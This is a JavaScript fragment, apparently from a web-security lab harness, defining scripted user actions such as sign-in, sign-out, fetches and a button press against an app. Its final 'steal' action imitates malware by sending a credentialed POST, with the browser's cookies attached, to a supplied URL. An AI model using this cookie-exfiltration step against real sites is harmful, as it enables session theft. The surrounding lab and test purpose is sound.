// What the person does who uses the app: nothing but what the app's own code offers.
// In full: a script of another origin cannot import by path.
const app = () => import(`${location.origin}/assets/app.js`);

const userActs = {
  ...moves,
  'sign-in': async ({ username, password, remember }) => (await app()).signIn({ username, password, remember }),
  'sign-out': async () => (await app()).signOut(),
  // With cookies and nothing else.
  plain: async ({ path }) => reply(await fetch(path)),
  call: async ({ path, method = 'GET', form }) =>
    reply(await (await app()).call(path, { method, body: form && new URLSearchParams(form) })),
  press: async () => {
    // The app counts how often it has shown the notes: the first time by itself.
    const shown = () => document.querySelector('#notes')?.dataset.shown;
    await until(shown);
    const before = shown();
    document.querySelector('#again').click();
    await until(() => shown() !== before);
    if (shown() === before) throw new Error('the app did not show the notes');
  },
  // What a program on the victim's machine does: it takes the cookies out of the browser. Here the browser brings
  // them, because cookies belong to a host and the lab listens on another port of it.
  steal: async ({ url }) => {
    await send(`${url}?${new URLSearchParams(visit)}`, { method: 'POST', mode: 'no-cors', credentials: 'include' });
  },
};
